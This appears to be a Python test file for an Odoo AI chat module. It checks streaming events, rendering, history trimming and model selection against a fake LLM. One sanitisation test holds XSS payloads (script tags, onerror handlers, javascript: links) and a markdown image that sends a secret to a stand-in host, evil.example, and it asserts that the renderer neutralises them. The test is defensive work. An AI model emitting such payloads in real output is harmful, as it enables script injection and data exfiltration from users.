import lxml.html

from odoo.tests import tagged

from ..lib.tool_schemas import TOOLS_GUIDANCE
from .common import AiStreamChatCase
from .fake_llm import Reply

# The system prompt set up by AiStreamChatCase, and what it says of the tools (offered).
SYSTEM = f"You are a test.\n\n{TOOLS_GUIDANCE}"


@tagged("post_install", "-at_install")
class TestStream(AiStreamChatCase):
    def test_answer_streams_and_is_stored(self):
        chunks = ["# Title\n\n", "Some ", "**bold** text.\n\n", "| a | b |\n|---|---|\n| 1 | 2 |\n"]
        self.fake.script(Reply(chunks=chunks, usage=(11, 7)))
        events, response = self.chat("Hello there\nsecond line")

        self.assertEqual(response.headers["Content-Type"], "text/event-stream; charset=utf-8")
        self.assertEqual(response.headers["Cache-Control"], "no-cache")
        self.assertEqual(response.headers["X-Accel-Buffering"], "no")
        ids = [event_id for event_id, _event, _data in events]
        self.assertEqual(ids, list(range(1, len(events) + 1)))
        self.assertEqual(events[0][1], "start")
        self.assertEqual(events[-1][1], "done")

        start = events[0][2]
        answer = self.env["ai.chat.message"].browse(start["message_id"])
        question = self.env["ai.chat.message"].browse(start["user_message_id"])
        self.assertEqual(start["model"], "fake-model")
        self.assertEqual(answer.conversation_id.id, start["conversation_id"])
        self.assertEqual(answer.conversation_id.user_id, self.user_a)
        self.assertEqual(answer.conversation_id.name, "Hello there")
        self.assertEqual(question.content, "Hello there\nsecond line")

        streamed = "".join(d["content"] for d in self.of(events, "delta"))
        self.assertEqual(streamed, "".join(chunks))
        self.assertEqual(answer.content, streamed)
        self.assertEqual(answer.state, "done")
        self.assertEqual(answer.finish_reason, "stop")
        self.assertEqual((answer.prompt_tokens, answer.completion_tokens), (11, 7))
        self.assertEqual(
            self.of(events, "usage"),
            [{"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18, "cached_tokens": 0}],
        )
        done = events[-1][2]
        self.assertEqual(
            done, {"message_id": answer.id, "state": "done", "html": answer.content_html}
        )
        self.assertIn("<h1>Title</h1>", answer.content_html)
        self.assertIn("<strong>bold</strong>", answer.content_html)
        self.assertIn("<table>", answer.content_html)

        # The browser's block array, rebuilt from the render events, matches the stored html.
        blocks = []
        for update in self.of(events, "render"):
            del blocks[update["from_block"] :]
            blocks.extend(update["blocks"])
        self.assertEqual("".join(blocks), answer.content_html)

        request = self.fake.requests[-1]
        self.assertEqual(request["headers"]["authorization"], "Bearer sk-test-secret-key")
        body = request["json"]
        self.assertEqual(body["model"], "fake-model")
        self.assertTrue(body["stream"])
        self.assertEqual(body["stream_options"], {"include_usage": True})
        self.assertEqual(
            body["messages"],
            [
                {"role": "system", "content": SYSTEM},
                {"role": "user", "content": "Hello there\nsecond line"},
            ],
        )

    def test_first_delta_arrives_before_the_upstream_finishes(self):
        self.fake.script(Reply(chunks=[f"w{i} " for i in range(20)], delay=0.1))
        response = self.open_stream(message="Count")
        for _id, event, _data in self.events(response):
            if event == "delta":
                break
        self.assertFalse(
            self.fake.completed.is_set(), "the first delta waited for the whole answer"
        )
        self.assertLess(self.fake.chunks_sent, 20)
        response.close()

    def test_client_leaving_does_not_stop_the_answer(self):
        chunks = [f"part{i} " for i in range(60)]
        self.fake.script(Reply(chunks=chunks, delay=0.01))
        response = self.open_stream(message="Long answer please")
        events = self.events(response)
        message_id = next(events)[2]["message_id"]
        next(e for e in events if e[1] == "delta")
        response.close()
        answer = self.env["ai.chat.message"].browse(message_id)
        self.wait_for(lambda: answer.state == "done", message="state done")
        self.assertEqual(answer.content, "".join(chunks))
        self.assertTrue(answer.content_html.startswith("<p>part0"))
        self.assertFalse(self.fake.client_closed.is_set())

    def test_reasoning_is_relayed_apart(self):
        self.fake.script(Reply(reasoning=["Let me ", "think."], chunks=["42"]))
        events, _response = self.chat("Meaning of life?")
        self.assertEqual(
            "".join(d["content"] for d in self.of(events, "reasoning")), "Let me think."
        )
        self.assertEqual("".join(d["content"] for d in self.of(events, "delta")), "42")
        answer = self.env["ai.chat.message"].browse(events[0][2]["message_id"])
        self.assertEqual(answer.reasoning, "Let me think.")
        self.assertEqual(answer.content, "42")

    def test_server_without_stream_options_still_works(self):
        self.fake.script(Reply(reject_stream_options=True), Reply(chunks=["fine"]))
        events, _response = self.chat("Hi")
        self.assertEqual("".join(d["content"] for d in self.of(events, "delta")), "fine")
        self.assertEqual(events[-1][2]["state"], "done")
        self.assertIn("stream_options", self.fake.requests[0]["json"])
        self.assertNotIn("stream_options", self.fake.requests[1]["json"])

    def test_history_is_sent_and_trimmed_oldest_first(self):
        self.fake.script(
            Reply(chunks=["First answer"]), Reply(chunks=["Second answer"]), Reply(chunks=["Third"])
        )
        events, _response = self.chat("First question")
        conversation_id = events[0][2]["conversation_id"]
        self.chat("Second question", conversation_id=conversation_id)
        self.assertEqual(
            self.fake.requests[-1]["json"]["messages"],
            [
                {"role": "system", "content": SYSTEM},
                {"role": "user", "content": "First question"},
                {"role": "assistant", "content": "First answer"},
                {"role": "user", "content": "Second question"},
            ],
        )
        # Room for the newest turns only: the oldest go first, and a user turn leads.
        self.set_param("history_chars", len("Second answer" + "Third question") + 5)
        self.chat("Third question", conversation_id=conversation_id)
        self.assertEqual(
            self.fake.requests[-1]["json"]["messages"],
            [
                {"role": "system", "content": SYSTEM},
                {"role": "user", "content": "Third question"},
            ],
        )
        conversation = self.env["ai.chat.conversation"].browse(conversation_id)
        self.assertEqual(len(conversation.message_ids), 6)

    def test_model_output_is_sanitized(self):
        corpus = [
            "<script>alert(1)</script>\n\n",
            "<img src=x onerror=alert(2)>\n\n",
            "[click](javascript:alert(3))\n\n",
            "![leak](https://evil.example/collect?secret=1)\n\n",
            '<a href="javascript:alert(4)">x</a> <div onclick="alert(5)">y</div>\n\n',
            "[fine](https://www.odoo.com)\n",
        ]
        self.fake.script(Reply(chunks=corpus))
        events, _response = self.chat("Attack me")
        answer = self.env["ai.chat.message"].browse(events[0][2]["message_id"])
        rendered = [answer.content_html, events[-1][2]["html"]]
        rendered += [html for update in self.of(events, "render") for html in update["blocks"]]
        for html in rendered:
            tree = lxml.html.fragment_fromstring(html, create_parent="div")
            self.assertFalse(tree.xpath("//script|//img|//iframe"), html)
            for element in tree.iter():
                for name, value in element.attrib.items():
                    self.assertFalse(name.lower().startswith("on"), html)
                    self.assertNotIn("javascript:", value.lower(), html)
                    self.assertNotIn("evil.example", value, html)
        self.assertIn("&lt;script&gt;", answer.content_html)  # shown as text, not run
        self.assertIn('href="https://www.odoo.com"', answer.content_html)
        self.assertIn('rel="noopener noreferrer nofollow"', answer.content_html)

    def test_other_model_from_allowed_list(self):
        events, _response = self.chat("Hi", model="other-model")
        self.assertEqual(events[0][2]["model"], "other-model")
        self.assertEqual(self.fake.requests[-1]["json"]["model"], "other-model")
